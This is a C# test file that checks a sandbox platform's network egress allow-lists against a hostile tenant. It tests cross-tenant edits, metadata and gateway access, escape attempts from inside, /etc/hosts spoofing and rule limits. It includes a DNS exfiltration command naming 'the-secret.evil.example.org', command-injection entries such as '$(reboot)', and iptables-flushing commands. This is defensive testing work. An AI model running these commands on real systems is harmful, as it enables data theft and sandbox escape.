using System.Net;
using System.Net.Http.Json;
using Sandbox.Testing;
using Sandbox.Testing.Clusters;
using Sandbox.Testing.Networks;

namespace Sandbox.Attacks.Tests;

/// <summary>What hostile code makes of lists of what a sandbox may reach, its own and another tenant's. The server beside the machine
/// stands for the internet: the operator lets sandboxes reach it.</summary>
[Collection(nameof(AttackCollection))]
public sealed class EgressAttackTests(AttackedCluster attacked) : IAsyncLifetime
{
    private static readonly string[] Everything = ["0.0.0.0/0", "169.254.169.254/32", "127.0.0.0/8", "10.0.0.0/8"];

    private static readonly string[] OneName = ["pypi.org"];

    private readonly TestSandboxes _sandboxes = new("egress");

    private LanMachine Lan => attacked.Lan!;

    public ValueTask InitializeAsync()
    {
        Assert.SkipUnless(attacked.Lan is not null || DockerEngine.WhyMissing is not null, "rules of iptables need root");
        return ValueTask.CompletedTask;
    }

    public async ValueTask DisposeAsync()
    {
        await _sandboxes.DisposeAsync();
    }

    [NeedsDockerFact]
    public async Task Lists_OfAnothersSandbox_CannotBeOpened_NorClosed()
    {
        var victims = await StartAsync(attacked.Red, new { allow = new[] { $"{Lan.Address.Host}/32" } });

        foreach (var lists in (object[])[new { }, new { allow = Array.Empty<string>() }, new { allow = new[] { "0.0.0.0/0" } }])
        {
            using var answer = await PutAsync(attacked.Mallory, victims, lists);
            Assert.Equal(HttpStatusCode.NotFound, answer.StatusCode);
        }

        Assert.True(await ReachesAsync(attacked.Red, victims, Lan.Address.Host), "what its owner allows is reached as before");
        Assert.False(await ReachesAsync(attacked.Red, victims, Lan.OtherAddress.Host), "and nothing else");
    }

    [NeedsDockerFact]
    public async Task Lists_ThatAllowAll_OpenNothingOfTheMachine()
    {
        using var service = new HostListener(IPAddress.Any);
        var box = await StartAsync(
            attacked.Mallory, new { allow = Everything });
        var gateway = (await attacked.Mallory.ExecuteAsync(box, "ip route | awk '/^default/{print $3}'")).Trim();

        foreach (var address in (string[])[gateway, "172.17.0.1", "169.254.169.254"])
        {
            Assert.False(await ReachesAsync(attacked.Mallory, box, address, service.Port), $"{address} is closed by the operator");
        }

        Assert.Equal(0, service.Connections);
    }

    /// <summary>Root inside has neither the rights nor another address to go by.</summary>
    [NeedsDockerFact]
    public async Task Lists_CannotBeShakenOffFromInside()
    {
        var box = await StartAsync(attacked.Mallory, new { allow = Array.Empty<string>() });

        await attacked.Mallory.ExecuteAsync(
            box,
            """
            ip addr add 10.213.255.77/16 dev eth0; ip link set eth0 down; ip link set eth0 up; iptables -t mangle -F
            ip route replace default via 172.17.0.1; true
            """);

        Assert.False(await ReachesAsync(attacked.Mallory, box, Lan.Address.Host), "nothing is allowed, whatever was tried inside");
        Assert.Equal("limited", (await attacked.Mallory.StatusAsync(box)).GetProperty("network_isolation").GetString());
    }

    /// <summary>The secret is in the name that is asked for; the server that the question is for is on the list.</summary>
    [NeedsDockerFact]
    public async Task Questions_CarryNothingOut_ToWhicheverServerTheyAreAsked()
    {
        var box = await StartAsync(attacked.Mallory, new { allow = new[] { "pypi.org", $"{Lan.Address.Host}/32" } });
        var ask = $"timeout 3 nslookup the-secret.evil.example.org {Lan.Address.Host} >/dev/null 2>&1; true";
        var before = await Lan.CountDatagramsAsync();

        await attacked.Mallory.ExecuteAsync(box, ask);
        Assert.Equal(before, await Lan.CountDatagramsAsync());

        // The question is one that arrives where nothing is limited.
        using var opened = await PutAsync(attacked.Mallory, box, new { });
        await attacked.Mallory.ExecuteAsync(box, ask);
        Assert.NotEqual(before, await Lan.CountDatagramsAsync());
    }

    /// <summary>A name that is allowed leads where its owner's name servers say, and not where the sandbox says.</summary>
    [NeedsDockerFact]
    public async Task Name_ThatTheSandboxDefinesItself_OpensNoAddress()
    {
        var box = await StartAsync(attacked.Mallory, new { allow = OneName });
        await attacked.Mallory.ExecuteAsync(box, $"echo '{Lan.Address.Host} pypi.org' >>/etc/hosts");

        Assert.False(await ReachesAsync(attacked.Mallory, box, "pypi.org"), "the address was told by nobody but the sandbox");
    }

    [NeedsDockerFact]
    public async Task Connection_ThatWasBegunBefore_EndsWithTheListsThatForbidIt()
    {
        var box = await StartAsync(attacked.Mallory, new { });
        await attacked.Mallory.ExecuteAsync(
            box,
            $$"""
            (while [ ! -e /go ]; do sleep 0.1; done; printf 'GET / HTTP/1.0\r\n\r\n'; sleep 30) |
                timeout 30 nc {{Lan.Address.Host}} {{Lan.Address.Port}} >/late 2>/dev/null &
            for i in 1 2 3 4 5 6 7 8 9 10; do grep -q ':1F40 01' /proc/net/tcp && exit 0; sleep 0.3; done; exit 1
            """);

        using var closed = await PutAsync(attacked.Mallory, box, new { allow = Array.Empty<string>() });
        Assert.Equal(HttpStatusCode.NoContent, closed.StatusCode);
        await attacked.Mallory.ExecuteAsync(box, "touch /go; sleep 2");

        Assert.Equal("", await attacked.Mallory.ExecuteAsync(box, "cat /late"));
    }

    [NeedsDockerTheory]
    [InlineData("1.2.3.4/32 -j RETURN")]
    [InlineData("1.2.3.4/32\n-A INPUT -j ACCEPT")]
    [InlineData("$(reboot)")]
    [InlineData("::/0")]
    public async Task Entry_ThatIsMoreThanANetworkOrAName_IsRefused(string entry)
    {
        var started = await attacked.Mallory.StartAsync("egress-bad", ("network", "bridge"), ("egress", new { allow = new[] { entry } }));
        Assert.Equal("Failed", started.GetProperty("status").GetString());
        Assert.Contains("egress.allow", started.ToString(), StringComparison.Ordinal);
    }

    [NeedsDockerFact]
    public async Task Lists_WithoutEnd_AreRefusedBeforeAnythingIsMadeOfThem()
    {
        string[] many = [.. Enumerable.Repeat("a.example.com", 2_000)];
        var started = await attacked.Mallory.StartAsync("egress-many", ("network", "bridge"), ("egress", new { allow = many }));

        Assert.Equal("Failed", started.GetProperty("status").GetString());
        Assert.Contains("at most 128 entries", started.ToString(), StringComparison.Ordinal);
    }

    private Task<string> StartAsync(RockCaller owner, object lists) =>
        _sandboxes.RunAsync(owner, ("network", "bridge"), ("egress", lists));

    private static Task<HttpResponseMessage> PutAsync(RockCaller caller, string id, object lists) =>
        caller.Http.PutAsJsonAsync($"/api/v1/sandboxes/{id}/network", lists, TestContext.Current.CancellationToken);

    private static async Task<bool> ReachesAsync(RockCaller owner, string from, string host, int port = 8000)
    {
        var ask = $"printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 {host} {port} >/tmp/said 2>&1";
        return (await owner.ExecuteAsync(from, $"{ask} && tail -n 1 /tmp/said || echo failed")).Trim() != "failed";
    }
}
